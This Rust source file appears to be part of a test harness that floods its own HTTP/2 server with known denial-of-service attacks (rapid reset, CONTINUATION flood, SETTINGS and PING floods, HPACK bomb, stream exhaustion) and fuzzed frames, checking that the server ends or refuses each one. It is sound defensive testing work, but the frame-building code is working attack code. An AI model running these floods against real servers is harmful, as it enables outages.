//! Frames of HTTP/2 that are too many, too large, unfinished or wrong.

use std::time::{Duration, Instant};

use crate::attack::attacker::{Attack, Attacker, On, PATIENCE, TOKEN};
use crate::attack::connection::Connection;
use crate::attack::frames::{
    Answers, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, get, preface, request_block, write_length,
};
use crate::attack::grammar::Documents;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "http2-odd",
        does: "streams with odd methods, paths, names of headers, lengths and bodies",
        promise: "each stream is answered by the contract or reset",
        share: 150,
        at_most: u64::MAX,
        on: On::Server { flags: &[], run: |attacker| Box::pin(attacker.crowd(16, odd)) },
    },
    Attack {
        name: "http2-noise",
        does: "frames of random types, flags, streams and lengths",
        promise: "the connection ends or goes on, and nothing else",
        share: 50,
        at_most: u64::MAX,
        on: On::Server { flags: &[], run: |attacker| Box::pin(attacker.crowd(16, noise)) },
    },
    Attack {
        name: "http2-rapid-reset",
        does: "streams that are reset as soon as they are opened (CVE-2023-44487)",
        promise: "the connection is ended",
        share: 100,
        at_most: 100_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, 0, |number| {
                    let mut bytes = get(2 * number + 1, "/v1/access-clients");
                    bytes.extend(frame(RST_STREAM, 0, 2 * number + 1, &[0, 0, 0, 8]));
                    bytes
                }))
            },
        },
    },
    Attack {
        name: "http2-made-reset",
        does: "streams that the server must reset, for too large a window (CVE-2025-8671)",
        promise: "the connection is ended",
        share: 100,
        at_most: 100_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, 0, |number| {
                    let mut bytes = get(2 * number + 1, "/v1/access-clients");
                    bytes.extend(frame(WINDOW_UPDATE, 0, 2 * number + 1, &[127, 255, 255, 255]));
                    bytes
                }))
            },
        },
    },
    Attack {
        name: "http2-continuation",
        does: "a head without end in CONTINUATION frames (CVE-2024-27316)",
        promise: "the connection is ended",
        share: 100,
        at_most: 100_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, 0, |number| match number {
                    0 => frame(
                        HEADERS,
                        END_STREAM,
                        1,
                        &request_block("GET", "/v1/access-clients", &[]),
                    ),
                    _ => frame(CONTINUATION, 0, 1, &block(&[("x-more", &[b'm'; 100])])),
                }))
            },
        },
    },
    Attack {
        name: "http2-empty-data",
        does: "a body of empty DATA frames (CVE-2019-9518)",
        promise: "the connection is ended",
        share: 100,
        at_most: 100_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, 0, |number| match number {
                    0 => frame(
                        HEADERS,
                        END_HEADERS,
                        1,
                        &request_block("POST", "/v1/workspaces", &[]),
                    ),
                    _ => frame(DATA, 0, 1, &[]),
                }))
            },
        },
    },
    Attack {
        name: "http2-settings",
        does: "SETTINGS frames, each of which is to be acknowledged (CVE-2019-9515)",
        promise: "the connection is ended",
        share: 1500,
        at_most: 200_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, FRAMES_A_SECOND, |_| {
                    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])
                }))
            },
        },
    },
    Attack {
        name: "http2-ping",
        does: "PING frames, each of which is to be answered (CVE-2019-9512)",
        promise: "the connection is ended",
        share: 1500,
        at_most: 200_000,
        on: On::Server {
            flags: PATIENT,
            run: |attacker| {
                Box::pin(flood(attacker, FRAMES_A_SECOND, |_| frame(PING, 0, 0, b"12345678")))
            },
        },
    },
    Attack {
        name: "http2-hpack",
        does: "headers that are small on the wire and large when unpacked",
        promise: "streams are rejected, and memory is kept",
        share: 10,
        at_most: 1000,
        on: On::Server { flags: &[], run: |attacker| Box::pin(attacker.crowd(8, bomb)) },
    },
    Attack {
        name: "http2-streams",
        does: "connections with thousands of streams whose bodies do not come",
        promise: "streams are refused, and the connection ends in time",
        share: 500,
        at_most: 20_000,
        on: On::Server {
            flags: &["--request-timeout", "2s"],
            run: |attacker| Box::pin(attacker.crowd(4, streams)),
        },
    },
];

/// So long that no connection ends for them.
const PATIENT: &[&str] = &["--head-timeout", "60s", "--idle-timeout", "60s"];

/// How many frames are sent at once.
const BATCH: u32 = 500;

/// How many frames of no request may come in a second.
const FRAMES_A_SECOND: u64 = 10_000;

/// Sends frames on one connection until the server ends it, which it must before they are all sent.
///
/// On a slow machine fewer may come in a second than the server lets pass, which is `a_second`; 0 if it lets none pass.
async fn flood(
    attacker: Attacker,
    a_second: u64,
    make: impl Fn(u32) -> Vec<u8> + Send,
) -> Result<(), String> {
    let Ok(mut connection) = begin(&attacker).await else { return Ok(()) };
    let mut answers = Answers::default();
    let (mut number, began) = (0, Instant::now());
    while u64::from(number) < attacker.amount {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            bytes.extend(make(number));
            number += 1;
            attacker.judge.sent();
        }
        // What it has to say is read, so that it can go on.
        let is_sent = connection.send(&bytes).await.is_ok();
        let patience = Duration::from_millis(1);
        let goes_on = answers.read(&mut connection, &attacker.judge, patience, |_| false).await;
        if !is_sent || !goes_on || answers.end.is_some() {
            attacker.judge.got("connection ended");
            return Ok(());
        }
    }
    // It may still be busy with the last of them.
    let patience = Duration::from_secs(5);
    let goes_on = answers.read(&mut connection, &attacker.judge, patience, |_| false).await;
    let is_flood = u64::from(number) > a_second * (began.elapsed().as_secs() + 1);
    if goes_on && answers.end.is_none() && is_flood {
        return Err(format!("the connection is not ended after {number} frames"));
    }
    attacker.judge.got("connection ended");
    Ok(())
}

async fn begin(attacker: &Attacker) -> std::io::Result<Connection> {
    let mut connection = attacker.connect().await?;
    connection.send(&preface(1 << 20)).await?;
    Ok(connection)
}

async fn odd(mut attacker: Attacker) -> Result<(), String> {
    const PER_CONNECTION: u32 = 100;
    const NAMES: &[&str] = &[
        "connection",
        "transfer-encoding",
        "te",
        "Upper-Case",
        "",
        ":status",
        ":path",
        "cookie",
        "host",
        "expect",
        "content-length",
        "x-mock-explain",
        "x y",
        "x\u{e9}",
        "x-project-id",
        "authorization",
        ":protocol",
        "upgrade",
    ];
    let documents = Documents::read(&attacker.documents)?;
    let mut open = None;
    for _ in 0..attacker.amount {
        let (mut connection, mut answers, stream) = match open.take() {
            Some(open) => open,
            None => match begin(&attacker).await {
                Ok(connection) => (connection, Answers::default(), 1),
                Err(_) => continue,
            },
        };
        let generated = documents.request(&mut attacker.random);
        let text = String::from_utf8_lossy(&generated.bytes).into_owned();
        let (head, body) = text.split_once("\r\n\r\n").unwrap_or_default();
        let mut line = head.split_whitespace();
        let (method, path) = (line.next().unwrap_or_default(), line.next().unwrap_or_default());
        let mut more: Vec<(&str, &[u8])> = vec![("x-auth-token", TOKEN.as_bytes())];
        let noise: [u8; 6] = std::array::from_fn(|_| attacker.random.u8(..));
        let values: [&[u8]; 6] = [b"", b"chunked", b"1", b"trailers", b"localhost", &noise];
        if attacker.random.u8(..) < 60 {
            let value = attacker.random.choice(values).unwrap_or_default();
            more.push((attacker.random.choice(NAMES).copied().unwrap_or_default(), value));
        }
        let body = &body.as_bytes()[..body.len().min(16_000)];
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &request_block(method, path, &more));
        bytes.extend(frame(DATA, END_STREAM, stream, body));
        attacker.judge.sent();
        answers.is_head = method == "HEAD";
        let _ = connection.send(&bytes).await;
        let before = answers.answered + answers.reset;
        let is_enough =
            |answers: &Answers| answers.answered + answers.reset > before || answers.end.is_some();
        let goes_on = answers.read(&mut connection, &attacker.judge, PATIENCE, is_enough).await;
        if goes_on && !is_enough(&answers) {
            return Err(format!("a stream was not answered: {method} {path} {more:?}"));
        }
        if goes_on && answers.end.is_none() && stream < PER_CONNECTION {
            open = Some((connection, answers, stream + 2));
        }
    }
    Ok(())
}

async fn noise(mut attacker: Attacker) -> Result<(), String> {
    let mut left = attacker.amount;
    while left > 0 {
        let Ok(mut connection) = begin(&attacker).await else { return Ok(()) };
        let mut answers = Answers::default();
        for _ in 0..20.min(left) {
            let random = &mut attacker.random;
            let payload: Vec<u8> = (0..random.usize(..64)).map(|_| random.u8(..)).collect();
            let stream = random.choice([0, 1, 3, 5, 2, u32::MAX, 0x7fff_ffff]).unwrap_or_default();
            let kind = if random.bool() { random.u8(..11) } else { random.u8(..) };
            let bytes = frame(kind, random.u8(..), stream, &payload);
            attacker.judge.sent();
            left -= 1;
            if connection.send(&bytes).await.is_err() {
                break;
            }
        }
        answers.read(&mut connection, &attacker.judge, Duration::from_millis(20), |_| false).await;
    }
    Ok(())
}

/// A header of 4 KiB goes into the table, and then each byte of a head stands for it.
async fn bomb(attacker: Attacker) -> Result<(), String> {
    let Ok(mut connection) = begin(&attacker).await else { return Ok(()) };
    let mut entry = vec![0x40];
    for text in [&b"x-bomb"[..], &[b'b'; 4000]] {
        write_length(&mut entry, text.len());
        entry.extend_from_slice(text);
    }
    let mut answers = Answers::default();
    for number in 0..attacker.amount {
        let mut head = request_block("GET", "/v1/access-clients", &[]);
        if number == 0 {
            head.extend(&entry);
        }
        head.extend(vec![0xbe; 12_000]);
        let stream = u32::try_from(2 * number + 1).unwrap_or_default();
        attacker.judge.sent();
        if connection.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)).await.is_err()
        {
            break;
        }
        let seen = number + 1;
        let is_enough =
            |answers: &Answers| answers.answered + answers.reset >= seen || answers.end.is_some();
        if !answers.read(&mut connection, &attacker.judge, PATIENCE, is_enough).await
            || answers.end.is_some()
        {
            break;
        }
    }
    Ok(())
}

async fn streams(attacker: Attacker) -> Result<(), String> {
    let Ok(mut connection) = begin(&attacker).await else { return Ok(()) };
    let mut answers = Answers::default();
    let headers = [("x-auth-token", TOKEN.as_bytes()), ("content-length", b"100")];
    let head = request_block("POST", "/v1/workspaces", &headers);
    for number in 0..attacker.amount {
        attacker.judge.sent();
        let stream = u32::try_from(2 * number + 1).unwrap_or_default();
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &head);
        bytes.extend(frame(DATA, 0, stream, b"{\"name\":"));
        if connection.send(&bytes).await.is_err() {
            break;
        }
        let patience = Duration::from_micros(10);
        if !answers.read(&mut connection, &attacker.judge, patience, |_| false).await
            || answers.end.is_some()
        {
            break;
        }
    }
    // Those that are admitted are answered with 408, or the connection ends with them.
    let amount = attacker.amount;
    let is_enough =
        |answers: &Answers| answers.answered + answers.reset >= amount || answers.end.is_some();
    if answers.read(&mut connection, &attacker.judge, PATIENCE, is_enough).await
        && !is_enough(&answers)
    {
        let answered = answers.answered + answers.reset;
        return Err(format!("{answered} of {amount} streams without bodies came to an end"));
    }
    Ok(())
}
